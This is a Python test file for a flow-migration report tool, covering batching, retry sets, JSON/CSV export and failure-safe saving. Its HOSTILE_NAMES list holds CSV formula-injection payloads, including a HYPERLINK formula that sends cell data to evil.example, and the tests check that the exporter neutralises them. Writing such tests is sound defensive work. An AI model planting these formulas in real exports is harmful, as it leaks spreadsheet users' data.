"""Batching, the run report, the retry set and export, without any UI or network."""

from __future__ import annotations

import csv
import io
import json

import pytest

from flowtui.api.models import FailedMigration, MigratedFlow, MigrationResult
from flowtui.migration import (
    ExportFormat,
    MigrationReport,
    batched_names,
    format_for,
    render_report,
    save_report,
)
from flowtui.migration.report import Outcome

CLASH = FailedMigration("Survey", "4233041", "Flow with the same name exists in destination WABA.")


def names(count: int) -> list[str]:
    return [f"flow {n:03}" for n in range(count)]


def test_names_go_in_batches_of_at_most_100_in_order():
    batches = batched_names(names(205))
    assert [len(b) for b in batches] == [100, 100, 5]
    assert [n for b in batches for n in b] == names(205)


def test_batching_drops_repeated_names_and_empty_input():
    assert batched_names(["a", "b", "a"]) == [("a", "b")]
    assert batched_names([]) == []
    with pytest.raises(ValueError):
        batched_names(["a"], size=0)


def report_with_two_batches() -> MigrationReport:
    """Batch 1 copied one flow and refused one; batch 2's outcome is unknown."""
    report = MigrationReport("src", "dst")
    report.add_result(
        MigrationResult(migrated=(MigratedFlow("Gift", "11", "21"),), failed=(CLASH,))
    )
    report.add_failed_batch(["Photos", "Warranty"], "HTTP 500", outcome_unknown=True)
    return report


def test_the_report_keeps_every_batch_outcome():
    report = report_with_two_batches()
    assert report.counts() == {Outcome.MIGRATED: 1, Outcome.FAILED: 1, Outcome.UNKNOWN: 2}
    assert report.unknown_names == ("Photos", "Warranty")
    assert report.needs_destination_check and report.has_failures


def test_retry_skips_what_arrived_and_resends_the_rest():
    report = report_with_two_batches()
    arrived = [MigratedFlow("Photos", "12", "22")]
    assert report.start_retry(arrived) == ["Survey", "Warranty"]
    # what arrived counts as copied; nothing is left failed until the resend answers
    assert [m.source_name for m in report.migrated] == ["Gift", "Photos"]
    assert not report.has_failures and not report.needs_destination_check


def test_retry_resends_a_refused_batch_whole_and_ignores_unrelated_arrivals():
    report = MigrationReport("src", "dst")
    report.add_failed_batch(["A", "B"], "Permission denied", outcome_unknown=False)
    # a refused batch copied nothing, so a same-named flow in the destination is not "arrived"
    assert report.start_retry([MigratedFlow("A", None, "99")]) == ["A", "B"]
    assert report.migrated == []


def test_nothing_to_retry_after_a_clean_run():
    report = MigrationReport("src", "dst")
    report.add_result(MigrationResult(migrated=(MigratedFlow("Gift", "11", "21"),), failed=()))
    assert not report.has_failures
    assert report.start_retry() == []


def test_json_export_lists_copied_failed_and_unknown():
    document = json.loads(render_report(report_with_two_batches(), ExportFormat.JSON))
    assert document["source_waba_id"] == "src" and document["destination_waba_id"] == "dst"
    assert document["migrated"] == [{"source_name": "Gift", "source_id": "11", "migrated_id": "21"}]
    assert document["failed"] == [
        {"source_name": "Survey", "error_code": "4233041", "error_message": CLASH.error_message}
    ]
    assert [u["source_name"] for u in document["outcome_unknown"]] == ["Photos", "Warranty"]


def test_csv_export_has_one_row_per_flow():
    text = render_report(report_with_two_batches(), ExportFormat.CSV)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(r["outcome"], r["source_name"], r["error_code"]) for r in rows] == [
        ("migrated", "Gift", ""),
        ("failed", "Survey", "4233041"),
        ("unknown", "Photos", ""),
        ("unknown", "Warranty", ""),
    ]
    assert rows[0]["migrated_id"] == "21" and rows[2]["error_message"] == "HTTP 500"


def test_save_picks_the_format_from_the_suffix_and_never_overwrites(tmp_path):
    report = report_with_two_batches()
    target = tmp_path / "out.CSV"
    assert save_report(report, target) is ExportFormat.CSV
    assert target.read_text().startswith("outcome,source_name,")
    with pytest.raises(FileExistsError):
        save_report(report, target)
    with pytest.raises(ValueError, match=r"\.json or \.csv"):
        format_for(tmp_path / "out.txt")
    assert not (tmp_path / "out.txt").exists()


# --- saving: all or nothing, and no formulas (issue #12 item 14) ---------------------------------

HOSTILE_NAMES = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
    "Plain name",
    "Mid=dle",
]


def hostile_report() -> MigrationReport:
    report = MigrationReport("src", "dst")
    report.add_result(
        MigrationResult(
            migrated=tuple(MigratedFlow(name, "1", "2") for name in HOSTILE_NAMES),
            failed=(FailedMigration("Failed one", "-100", "@once more: =1+1"),),
        )
    )
    return report


def test_csv_cells_cannot_become_formulas(tmp_path):
    target = tmp_path / "report.csv"
    save_report(hostile_report(), target)
    with target.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert [row["source_name"] for row in rows[: len(HOSTILE_NAMES)]] == [
        "'" + name if name[0] in "=+-@\t\r" else name for name in HOSTILE_NAMES
    ]
    assert (rows[-1]["error_code"], rows[-1]["error_message"]) == ("'-100", "'@once more: =1+1")


def test_a_lone_surrogate_in_a_name_does_not_stop_the_save(tmp_path):
    report = MigrationReport("src", "dst")
    report.add_result(MigrationResult(migrated=(MigratedFlow("A\ud800B", "1", "2"),), failed=()))
    save_report(report, tmp_path / "r.json")
    save_report(report, tmp_path / "r.csv")
    document = json.loads((tmp_path / "r.json").read_bytes())
    assert document["migrated"][0]["source_name"] == "A\ud800B"  # its JSON escape reads back
    assert "A\ufffdB" in (tmp_path / "r.csv").read_text(encoding="utf-8")


FULL_DISK = """
import resource, signal, sys
from pathlib import Path
from tests.migration.test_migration_report import hostile_report
from flowtui.migration import save_report
report = hostile_report()
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
resource.setrlimit(resource.RLIMIT_FSIZE, (64, 64))  # writes past 64 bytes fail: EFBIG
try:
    save_report(report, Path(sys.argv[1]))
except OSError as error:
    print(error.strerror)
"""


@pytest.mark.parametrize("suffix", [".csv", ".json"])
def test_a_save_that_fails_leaves_nothing_and_the_name_stays_free(tmp_path, suffix):
    """A full disk left a 0-byte file that then blocked saving under that name."""
    import subprocess
    import sys
    from pathlib import Path

    target = tmp_path / f"report{suffix}"
    root = Path(__file__).resolve().parents[2]
    result = subprocess.run(
        [sys.executable, "-c", FULL_DISK, str(target)],
        capture_output=True,
        text=True,
        cwd=root,
        timeout=60,
    )
    assert result.stdout.strip() == "File too large", result.stderr
    assert list(tmp_path.iterdir()) == []  # neither the report nor a temporary file
    save_report(hostile_report(), target)
    assert target.stat().st_size > 64


def test_a_file_that_appears_meanwhile_is_not_overwritten(tmp_path, monkeypatch):
    from flowtui.migration import export

    target = tmp_path / "out.json"
    real_write = export.write_new_synced

    def write_then_someone_else_saves(path, data, mode):
        real_write(path, data, mode)
        target.write_text("theirs")

    monkeypatch.setattr(export, "write_new_synced", write_then_someone_else_saves)
    with pytest.raises(FileExistsError):
        save_report(report_with_two_batches(), target)
    assert target.read_text() == "theirs"
    assert [p.name for p in tmp_path.iterdir()] == ["out.json"]


def test_without_hard_links_the_name_is_claimed_exclusively(tmp_path, monkeypatch):
    import errno
    import os

    def no_links(source, target):
        raise OSError(errno.EPERM, "Operation not permitted")

    monkeypatch.setattr(os, "link", no_links)
    target = tmp_path / "out.csv"
    save_report(report_with_two_batches(), target)
    assert target.read_text().startswith("outcome,source_name,")
    with pytest.raises(FileExistsError):
        save_report(report_with_two_batches(), target)
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]
